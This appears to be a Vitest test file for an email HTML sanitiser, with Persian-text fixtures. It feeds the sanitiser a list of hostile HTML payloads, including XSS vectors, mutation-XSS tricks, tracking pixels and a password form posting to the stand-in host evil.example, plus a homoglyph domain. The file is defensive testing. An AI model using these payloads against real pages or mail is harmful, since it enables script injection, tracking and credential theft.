import { describe, expect, it } from 'vitest'
import { sanitiseMail } from '../../../src/mail/sanitise'

const bodyOf = (html: string): HTMLElement => {
  const box = document.createElement('div')
  box.innerHTML = sanitiseMail(html).body
  return box
}

/** Attributes that load something or run something. */
const loading = ['src', 'href', 'srcset', 'background', 'poster', 'data', 'action', 'formaction', 'style', 'xlink:href']

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif" width=1>',
  '<img srcset="https://evil.example/1x.gif 1x">',
  '<img src="//evil.example/a.gif">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<svg onload=alert(1)><use href="https://evil.example/x.svg#a"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x"></object><embed src="https://evil.example/y">',
  '<form action="https://evil.example"><input name=password><button formaction="https://evil.example">ok</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<style>@import "https://evil.example/a.css"; body{background:url(https://evil.example/b)}</style>',
  '<p style="background:url(https://evil.example/c)">x</p>',
  "<p style='background:url(https://evil.example/c)'>x</p>",
  '<p style=background:url(https://evil.example/c)>x</p>',
  '<table background="https://evil.example/d"><tr><td background="https://evil.example/e">x</td></tr></table>',
  '<video src="https://evil.example/v" poster="https://evil.example/p"></video><audio src="https://evil.example/a">',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>x',
  '<input autofocus onfocus=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><style/><img src=x onerror=alert(1)>',
  '<x-frame style="x" onpointerenter=alert(1)>x</x-frame>',
]

describe('a hostile mail', () => {
  it.each(hostile)('%s runs nothing and fetches nothing', (html) => {
    for (const element of bodyOf(`<p>سلام</p>${html}<p>پایان</p>`).querySelectorAll('*')) {
      expect(element.tagName).not.toMatch(
        /^(script|iframe|object|embed|form|input|button|style|link|meta|base|video|audio)$/i,
      )
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on/i)
        if (loading.includes(name))
          expect([name, value]).toEqual(['src', expect.stringMatching(/^data:image\/(png|jpeg|gif|webp);/)])
      }
    }
  })

  it('shadows nothing of the page by names and ids', () => {
    for (const element of bodyOf('<a id=location name=cookie class=x>x</a><img name=body>').querySelectorAll('*'))
      expect([...element.attributes].map(({ name }) => name)).toEqual([])
  })
})

describe('an honest mail', () => {
  it('keeps its words, tables and pictures of its own', () => {
    const box = bodyOf(
      '<h2>کد شما</h2><table><tr><td dir="rtl">۱۲۳۴</td></tr></table><img alt="لوگو" src="data:image/png;base64,iVBORw0KGgo=">',
    )
    expect(box.querySelector('h2')?.textContent).toBe('کد شما')
    expect(box.querySelector('td')?.getAttribute('dir')).toBe('rtl')
    expect(box.querySelector('img')?.getAttribute('src')).toMatch(/^data:image\/png/)
  })

  it('hands its web addresses out, each once, the host as it really is', () => {
    const { body, links } = sanitiseMail(
      '<a href="https://gigno.example/verify?a=1">بازبینی</a> <a href="https://gigno.example/verify?a=1">باز</a> <a href="https://аpple.example">apple</a> <a href="mailto:x@y.example">m</a>',
    )
    expect(body).not.toContain('href')
    expect(links).toEqual(['https://gigno.example/verify?a=1', 'https://xn--pple-43d.example/'])
  })
})
